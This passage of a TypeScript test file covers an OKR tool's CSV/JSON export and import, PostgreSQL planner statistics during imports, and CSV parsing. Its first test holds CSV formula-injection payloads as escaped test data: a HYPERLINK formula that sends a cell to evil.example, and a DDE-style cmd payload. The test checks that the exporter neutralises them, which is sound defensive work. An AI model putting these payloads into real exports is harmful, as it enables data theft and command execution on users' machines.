    const cells = rows.map((r) => r[header?.indexOf('title') ?? -1]);
    expect(cells.sort()).toEqual(
      [
        '\'=HYPERLINK("http://evil.example/?x="&B2,"click")',
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'+1-1",
        "'-2+3",
        "''quoted already",
        "'\t=1+1",
        'plain = fine',
      ].sort(),
    );
    // No cell of the file starts with what a spreadsheet runs (tags are JSON text: `["=1+2",…]`).
    expect(rows.flat().filter((c) => c !== null && /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(await importRows(opts('formulas-copy'), { csv, resource: 'Objective' })).toEqual({ Objective: 7 });
    const copied = await list('formulas-copy', 'objectives');
    expect(copied.map((o) => o.title).sort()).toEqual([...titles].sort());
    expect(copied.every((o) => JSON.stringify(o.tags) === '["=1+2","-x"]')).toBe(true);
    // A file an earlier build wrote, or a hand-written one: an apostrophe before other text stays.
    const csvByHand = "title\r\n'Tis the season\r\n'=1+2\r\n";
    await importRows(opts('formulas-hand'), { csv: csvByHand, resource: 'Objective' });
    expect((await list('formulas-hand', 'objectives')).map((o) => o.title).sort()).toEqual(["'Tis the season", '=1+2']);
  });
});

describe.each(storeKinds)('edm export on a database without the schema (%s)', (kind) => {
  it('says so before writing anything', async () => {
    const fresh = await freshStore(kind);
    try {
      const written: string[] = [];
      const o = { store: fresh.store, modules, tenant: 't', sub: USER_A, secretKey: new Uint8Array(32) };
      await expect(exportJson(o, (chunk) => void written.push(chunk))).rejects.toThrow(/no EDM schema of this build/);
      await expect(exportCsv({ ...o, resource: 'KeyResult' }, (chunk) => void written.push(chunk))).rejects.toThrow(
        TransferError,
      );
      expect(written).toEqual([]);
    } finally {
      await fresh.store.close();
      await fresh.drop();
    }
  });

  it('says so on a schema an earlier build made (a column added since), before writing anything; edm migrate upgrades it', async () => {
    const fresh = await freshStore(kind);
    try {
      await migrate(
        fresh.store,
        modules.flatMap((m) => m.resources),
      );
      await sql`ALTER TABLE okr_connectors DROP COLUMN last_read_at`.execute(fresh.store.db);
      const written: string[] = [];
      const o = { store: fresh.store, modules, tenant: 't', sub: USER_A, secretKey: new Uint8Array(32) };
      await expect(exportJson(o, (chunk) => void written.push(chunk))).rejects.toThrow(
        /no EDM schema of this build yet: none, or one an earlier build made \(edm migrate/,
      );
      expect(written).toEqual([]);
      await migrate(
        fresh.store,
        modules.flatMap((m) => m.resources),
      );
      await exportJson(o, (chunk) => void written.push(chunk));
      expect(JSON.parse(written.join(''))).toMatchObject({ tenant_id: 't' });
    } finally {
      await fresh.store.close();
      await fresh.drop();
    }
  });
});

// One transaction writes a whole import, so autovacuum never analyzes the tables it fills
// meanwhile: a prepared statement's generic plan, made while they were near empty, would stay
// while they grow (3,000 key results into a new schema took 196 s by hand against 12 s without
// it). The import analyzes each table as it doubles (keepPlannerStats); where it cannot, it
// makes its plans again for the sizes there are, and tries again at its next look. It never
// plans every run: statistics another tenant's rows left made such plans read this tenant's
// rows whole for a read by id (one import of two at once: 45–67 s instead of 7–10).
describe.runIf(PG_URL !== undefined)('edm import on PostgreSQL', () => {
  /** A file of one objective and 400 key results, each with a value (a snapshot each). */
  const file = {
    format: EXPORT_FORMAT,
    resources: {
      Objective: [{ id: 'obj_file', title: 'Objective' }],
      KeyResult: Array.from({ length: 400 }, (_, i) => ({
        id: `kr_file${i}`,
        objective_id: 'obj_file',
        title: `Key result ${i}`,
        target: 100,
        current: i % 100,
      })),
    },
  };
  /**
   * Imports the file into a new schema, where `hold` (given the schema) may hold a lock from
   * another session until the import ends, or until `releaseAt` (given each statement the import
   * sends) says to let go.
   */
  const imported = async (
    hold?: (schema: string) => Promise<{ release(): Promise<void>; releaseAt(sql: string): boolean }>,
  ): Promise<{ seen: string[]; counts: Record<string, number>; mode: string }> => {
    const fresh = await freshStore('postgres');
    const seen: string[] = [];
    let held: Awaited<ReturnType<NonNullable<typeof hold>>> | null = null;
    let released: Promise<void> | null = null;
    const store = openStore(fresh.url, {
      schema: fresh.schema,
      onQuery: (text) => {
        seen.push(text);
        if (held && !released && held.releaseAt(text)) released = held.release();
      },
    });
    try {
      await migrate(
        store,
        modules.flatMap((m) => m.resources),
      );
      held = (await hold?.(fresh.schema as string)) ?? null;
      const o = { store, modules, sub: USER_A, secretKey: new Uint8Array(32), now: NOW, tenant: 'copy' };
      let counts: Record<string, number>;
      try {
        seen.length = 0;
        counts = await importRows(o, { json: file });
      } finally {
        if (held && !released) released = held.release();
        await released;
      }
      // Local to that transaction: the pool's sessions are as they were.
      const after = await sql<{ plan_cache_mode: string }>`SHOW plan_cache_mode`.execute(store.db);
      return { seen, counts, mode: after.rows[0].plan_cache_mode };
    } finally {
      await store.close();
      await fresh.store.close();
      await fresh.drop();
    }
  };
  /** Another session analyzing the key-result table: it holds what ANALYZE takes until it ends. */
  const analyzing = (releaseAt: (sql: string) => boolean) => async (schema: string) => {
    const other = new pg.Client({ connectionString: PG_URL });
    await other.connect();
    await other.query('BEGIN');
    await other.query(`LOCK TABLE ${schema}.okr_key_results IN SHARE UPDATE EXCLUSIVE MODE`);
    return {
      releaseAt,
      async release() {
        await other.query('COMMIT');
        await other.end();
      },
    };
  };
  const at = (seen: string[], test: (q: string) => boolean) => seen.flatMap((q, i) => (test(q) ? [i] : []));
  /** Where an ANALYZE of the key-result table ran, and where one was refused (rolled back). */
  const analyzes = (seen: string[]) => {
    const tried = at(seen, (q) => q.startsWith('ANALYZE ') && q.includes('"okr_key_results"'));
    return {
      done: tried.filter((i) => seen[i + 1]?.startsWith("SELECT set_config('lock_timeout'")),
      refused: tried.filter((i) => seen[i + 1] === 'ROLLBACK TO SAVEPOINT edm_analyze'),
    };
  };

  it('analyzes the tables it fills as they grow, inside its own transaction', async () => {
    const { seen, counts, mode } = await imported();
    expect(counts).toEqual({ Objective: 1, KeyResult: 400 });
    const firstInsert = seen.findIndex((q) => /^insert into "okr_key_results"/.test(q));
    const { done, refused } = analyzes(seen);
    expect(firstInsert).toBeGreaterThanOrEqual(0);
    expect(done.length).toBeGreaterThan(0);
    expect(refused).toEqual([]);
    expect(done[0]).toBeGreaterThan(firstInsert);
    expect(done.at(-1)).toBeLessThan(seen.lastIndexOf('commit'));
    // Statements are planned as the server plans them: no planning on every run.
    expect(seen.some((q) => q.includes('force_custom_plan') || q === 'DISCARD PLANS')).toBe(false);
    expect(mode).toBe('auto');
  });

  it('makes its plans again as the tables grow where another transaction holds them, without waiting for it', async () => {
    const { seen, counts, mode } = await imported(analyzing(() => false));
    expect(counts).toEqual({ Objective: 1, KeyResult: 400 });
    const { done, refused } = analyzes(seen);
    const discarded = at(seen, (q) => q === 'DISCARD PLANS');
    // Refused at each look once the table has grown (from 128 rows written on), and tried again
    // at the next; its plans made again instead, right after the first refusal (and again once
    // the tables have doubled since).
    expect(done).toEqual([]);
    expect(refused.length).toBeGreaterThanOrEqual(2);
    expect(discarded.length).toBeGreaterThanOrEqual(1);
    expect(discarded.length).toBeLessThanOrEqual(refused.length);
    expect(discarded[0]).toBeGreaterThan(refused[0]);
    expect(discarded[0]).toBeLessThan(refused[1]);
    expect(seen.some((q) => q.includes('force_custom_plan'))).toBe(false);
    expect(mode).toBe('auto');
  });

  it('analyzes at its next look once the other transaction has ended', async () => {
    const { seen, counts } = await imported(analyzing((q) => q === 'ROLLBACK TO SAVEPOINT edm_analyze'));
    expect(counts).toEqual({ Objective: 1, KeyResult: 400 });
    const { done, refused } = analyzes(seen);
    expect(refused).toHaveLength(1);
    expect(done.length).toBeGreaterThan(0);
    expect(done[0]).toBeGreaterThan(refused[0]);
  });
});

describe('parseCsv', () => {
  it.each([
    [
      'plain rows, LF',
      'a,b\n1,2\n',
      [
        ['a', 'b'],
        ['1', '2'],
      ],
    ],
    [
      'CRLF and no final newline',
      'a,b\r\n1,2',
      [
        ['a', 'b'],
        ['1', '2'],
      ],
    ],
    ['quoted commas, quotes and newlines', 'a\r\n"x, ""y""\nz"\r\n', [['a'], ['x, "y"\nz']]],
    [
      'empty cells, as null',
      'a,b,c\r\n,,\r\n',
      [
        ['a', 'b', 'c'],
        [null, null, null],
      ],
    ],
    ['quoted empty cells, as empty strings', 'a,b\r\n"",\r\n""', [['a', 'b'], ['', null], ['']]],
    ['a byte-order mark', '\uFEFFa\r\n1\r\n', [['a'], ['1']]],
    [
      'a quote inside an unquoted cell, as it is',
      'a,b\r\nx"y,z""\r\n',
      [
        ['a', 'b'],
        ['x"y', 'z""'],
      ],
    ],
    ["doubled quotes at a quoted cell's ends", '"""x""",""""\r\n', [['"x"', '"']]],
    ['lone CR line breaks', 'a\r1\r"2\r3"', [['a'], ['1'], ['2\r3']]],
    ['a cell after the last line break', 'a\n,', [['a'], [null, null]]],
  ])('%s', (_name, text, rows) => {
    expect(parseCsv(text)).toEqual(rows);
  });

  it("reads a file of 200,000 rows, answering each row's line", () => {
    const at: number[] = [];
    const text = `a,b\r\n${'x,"y"\r\n'.repeat(200_000)}`;
    const rows = parseCsv(text, at);
    expect([rows.length, at.length, at.at(-1), rows.at(-1)]).toEqual([200_001, 200_001, 200_001, ['x', 'y']]);
  });

  it('refuses a quoted field that never ends', () => {
    expect(() => parseCsv('a\r\n"open')).toThrow(TransferError);
  });

  // `"x"y` was read as `xy`: text after a closing quote is not RFC 4180, and changed silently.
  it.each(['a\r\n"x"y\r\n', 'a,b\r\n1,"x" \r\n', 'a\n"one\ntwo"z'])(
    'refuses text after a closing quote: %j',
    (text) => {
      expect(() => parseCsv(text)).toThrow(/^line \d+: text after a quoted field's closing quote/);
    },
  );

  // Errors named the record's index as its line: wrong once a quoted cell held a line break.
  it("answers the file's line each row starts on, line breaks inside quoted cells counted", () => {
    const at: number[] = [];
    const rows = parseCsv('a,b\r\n"one\r\ntwo",1\r\n\r\n"x\ny\nz",2\nlast,3', at);
    expect(rows).toEqual([
      ['a', 'b'],
      ['one\r\ntwo', '1'],
      ['x\ny\nz', '2'],
      ['last', '3'],
    ]);
    expect(at).toEqual([1, 2, 5, 8]);
    expect(() => parseCsv('a\n"b\nc"\n"d"e')).toThrow(/^line 4: /);
  });
});
